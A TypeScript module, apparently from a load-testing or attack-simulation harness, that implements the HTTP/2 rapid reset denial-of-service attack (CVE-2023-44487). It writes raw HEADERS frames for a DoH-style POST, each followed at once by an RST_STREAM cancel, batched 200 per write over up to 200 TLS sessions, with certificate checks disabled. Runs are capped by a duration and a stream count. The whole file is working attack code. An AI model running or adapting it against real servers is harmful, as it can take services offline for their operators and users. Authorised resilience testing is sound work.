// HTTP/2 rapid reset (CVE-2023-44487) in raw frames over TLS: HEADERS for a DoH request then
// RST_STREAM(CANCEL) at once, stream after stream, on one connection from one source; a new
// connection when the server sends GOAWAY or closes. Raw frames because an HTTP/2 client library
// queues streams past the server's concurrency limit instead of sending them (RFC 9113 §5.1.2:
// reset streams do not count against it, which is the whole attack). Bounded in streams and time.

import tls from 'node:tls';
import type { AttackReport, AttackSpec } from '../spec.ts';

const MAX_SESSIONS = 200;
const PAIRS_PER_WRITE = 200;
const FRAME_HEADERS = 0x1;
const FRAME_RST_STREAM = 0x3;
const FRAME_SETTINGS = 0x4;
const FRAME_GOAWAY = 0x7;
const FLAG_END_STREAM_HEADERS = 0x5;
const CANCEL = 0x8;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const f = Buffer.alloc(9 + payload.length);
  f.writeUIntBE(payload.length, 0, 3);
  f[3] = type;
  f[4] = flags;
  f.writeUInt32BE(stream & 0x7fffffff, 5);
  payload.copy(f, 9);
  return f;
}

/** HPACK (RFC 7541): :method POST and :scheme https from the static table, :path and :authority as literals. */
function headerBlock(path: string, authority: string): Buffer {
  const literal = (index: number, value: string): Buffer => Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, 'latin1')]);
  return Buffer.concat([Buffer.from([0x83, 0x87]), literal(0x04, path), literal(0x01, authority)]);
}

export async function rapidReset(s: Extract<AttackSpec, { kind: 'rapid-reset' }>): Promise<AttackReport> {
  const counters = { streams: 0, sessions: 0, goaways: 0, sessionErrors: 0 };
  const end = performance.now() + s.durationS * 1000;
  const block = headerBlock(s.path, `${s.host}:${s.port}`);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(CANCEL, 0);
  while (performance.now() < end && counters.streams < s.maxStreams && counters.sessions < MAX_SESSIONS) {
    counters.sessions++;
    await new Promise<void>((resolve) => {
      const options: tls.ConnectionOptions & { localAddress: string } = { host: s.host, port: s.port, localAddress: s.source, rejectUnauthorized: false, ALPNProtocols: ['h2'] };
      const socket = tls.connect(options);
      let done = false;
      const finish = (): void => {
        if (done) return;
        done = true;
        socket.destroy();
        resolve();
      };
      setTimeout(finish, Math.max(0, end - performance.now())).unref();
      socket.on('error', () => (counters.sessionErrors++, finish()));
      socket.on('close', finish);
      let settingsAcked = false;
      let carry = Buffer.alloc(0);
      socket.on('data', (chunk: Buffer) => {
        carry = Buffer.concat([carry, chunk]);
        while (carry.length >= 9) {
          const len = carry.readUIntBE(0, 3);
          if (carry.length < 9 + len) break;
          const type = carry[3]!;
          if (type === FRAME_GOAWAY) {
            counters.goaways++;
            return finish();
          }
          if (type === FRAME_SETTINGS && (carry[4]! & 0x1) === 0 && !settingsAcked) {
            settingsAcked = true;
            socket.write(frame(FRAME_SETTINGS, 0x1, 0, Buffer.alloc(0)));
          }
          carry = carry.subarray(9 + len);
        }
      });
      socket.once('secureConnect', () => {
        if (socket.alpnProtocol !== 'h2') return finish();
        socket.write(Buffer.concat([PREFACE, frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0))]));
        let stream = 1;
        const pump = (): void => {
          while (!done) {
            if (performance.now() >= end || counters.streams >= s.maxStreams || stream > 0x7ffffff0) return finish();
            const frames: Buffer[] = [];
            for (let i = 0; i < PAIRS_PER_WRITE; i++, stream += 2) {
              frames.push(frame(FRAME_HEADERS, FLAG_END_STREAM_HEADERS, stream, block), frame(FRAME_RST_STREAM, 0, stream, rst));
            }
            counters.streams += PAIRS_PER_WRITE;
            // Backpressure: wait for the socket to drain rather than buffer without bound.
            if (!socket.write(Buffer.concat(frames))) return void socket.once('drain', () => setImmediate(pump));
            if (counters.streams % (PAIRS_PER_WRITE * 10) === 0) return void setImmediate(pump);
          }
        };
        pump();
      });
    });
  }
  return { sent: counters.streams, received: counters.goaways, counters };
}
